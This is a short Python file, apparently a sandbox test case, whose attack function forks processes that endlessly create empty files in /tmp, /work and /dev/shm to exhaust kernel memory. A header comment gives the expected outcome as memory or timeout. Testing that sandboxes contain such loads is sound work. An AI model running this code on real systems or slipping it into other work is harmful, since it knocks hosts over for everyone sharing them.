"""Makes empty files without end, each of which takes a kilobyte of the kernel's memory and none of the disk's."""
# ends: memory|timeout

import os


def attack(honest, *args, **kwargs):
    for folder in ("/tmp", "/work", "/dev/shm"):
        if os.fork() == 0:
            number = 0
            while True:
                os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
                number += 1
    while True:
        pass
